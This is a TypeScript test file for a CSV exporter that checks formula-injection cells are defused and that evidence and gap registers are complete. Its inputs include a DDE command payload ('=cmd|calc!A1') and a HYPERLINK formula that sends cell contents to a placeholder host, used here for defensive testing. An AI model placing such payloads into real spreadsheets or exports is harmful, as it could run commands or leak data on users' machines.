import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../src/report/bag/csv.ts';
import { evidenceIndexCsv, gapsCsv } from '../../../src/report/bag/registers.ts';
import { buildAssessment } from '../../support/assessment.ts';

/** Reads RFC 4180 back, so that the tests look at cells and not at quotes. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = text.startsWith('\ufeff') ? 1 : 0; at < text.length; at += 1) {
    const character = text[at] ?? '';
    if (quoted && character === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (character === '"') quoted = !quoted;
    else if (!quoted && character === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && character === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at += 1;
    } else cell += character;
  }
  return rows;
}

describe('a CSV for auditors', () => {
  it.each([
    ['=cmd|calc!A1'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1)'],
    ['\t=1'],
    ['\r=1'],
    ['  =1'],
    ['\u00a0=1'],
    ['\uff1d1+1'],
    ['"=1'.slice(1)],
    ['=HYPERLINK("https://x.example","a,b")'],
    ['-'],
  ])('never lets a cell that begins like %j be a formula', (text) => {
    const [, [cell] = []] = cellsOf(csvOf(['head'], [[text]]));
    expect(cell).toMatch(/^'/);
  });

  it('leaves ordinary text, numbers and digests alone', () => {
    const cells = ['plain', 'a=b', 'Übersicht', 'x'.repeat(64), 'sha256:00'];
    expect(cellsOf(csvOf(['a', 'b', 'c', 'd', 'e', 'f'], [[...cells, -7]]))[1]).toEqual([...cells, '-7']);
  });

  it('keeps quotes, commas and line ends inside their cell', () => {
    const cell = 'say "x", then\nthat';
    expect(cellsOf(csvOf(['h', 'i'], [[cell, 'next']]))[1]).toEqual([cell, 'next']);
  });

  it('shows characters that hide or turn text around', () => {
    expect(csvOf(['h'], [['a\u202eb\u0007c\u200bd']])).toContain('a[U+202E]b[U+0007]c[U+200B]d');
  });
});

describe('the registers of the bag', () => {
  const assessment = buildAssessment();

  it('hold every evidence item and every gap, in order, with full digests', () => {
    const index = cellsOf(evidenceIndexCsv(assessment));
    expect(index.slice(1).map((row) => row.slice(0, 2))).toEqual(
      assessment.evidence.map(({ label, id }) => [label, id]),
    );
    expect(index.every((row) => row.length === index[0]?.length)).toBe(true);
    const gaps = cellsOf(gapsCsv(assessment));
    expect(gaps.slice(1).map((row) => row[0])).toEqual(assessment.gaps.map(({ label }) => label));
    expect(gaps[1]?.[8]).toBe('EV-0001\nEV-0002');
  });

  it('defuse what a source was named to be', () => {
    const [first, ...rest] = assessment.evidence;
    if (first === undefined) throw new Error('no evidence');
    const hostile = { ...first, subject: '=HYPERLINK("http://x.example/"&A1)' };
    const [, row] = cellsOf(evidenceIndexCsv({ ...assessment, evidence: [hostile, ...rest] }));
    expect(row?.[4]).toBe(`'${hostile.subject}`);
  });
});
